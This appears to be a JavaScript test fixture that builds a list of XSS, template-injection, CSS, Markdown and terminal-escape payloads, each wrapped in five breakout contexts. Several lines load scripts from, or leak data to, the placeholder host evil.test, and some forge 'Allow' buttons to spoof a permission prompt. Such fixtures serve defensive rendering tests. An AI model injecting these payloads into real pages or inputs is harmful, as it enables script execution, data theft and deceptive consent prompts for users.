// Texts that would act where a page takes them for HTML, a URL, CSS, a template or Markdown: 40 of
// them, each in five surroundings. Every address in them is one that no page asks for.

const acts = [
    "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>", "<img src=x onerror=alert(1)>", "<img src=//evil.test/pixel.png>",
    "<svg onload=alert(1)>", "<svg><script href=//evil.test/x.js /></svg>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>", "<object data=//evil.test/x></object>", "<embed src=//evil.test/x>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=dns-prefetch href=//evil.test>", "<meta http-equiv=refresh content=\"0;url=//evil.test/\">", "<base href=//evil.test/>",
    "<form action=//evil.test/><button autofocus>Allow once</button></form>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<template><script>alert(1)</script></template>", "<iam-permission-sheet></iam-permission-sheet>", "<slot></slot><dialog open>Allowed</dialog>",
    "<style>*{background:url(//evil.test/x)}</style>", "<a href=\"javascript:alert(1)\" id=tool-name>Allow</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "![x](http://evil.test/pixel.png)", "[Allow](javascript:alert(1))", "http://evil.test/?q=secret", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) '", "x;background:url(//evil.test/x)",
    "\u001b]8;;http://evil.test\u001b\\link\u001b[2J", "\u202E>\"=)1(trela=rorreno x=crs gmi<\u202C", "\0<scr\0ipt>alert(1)</scr\0ipt>",
];

export const payloads = acts.flatMap((text) => [text, `">${text}`, `</bdi></pre></dialog>${text}`, `-->${text}<!--`, text.toUpperCase()]);
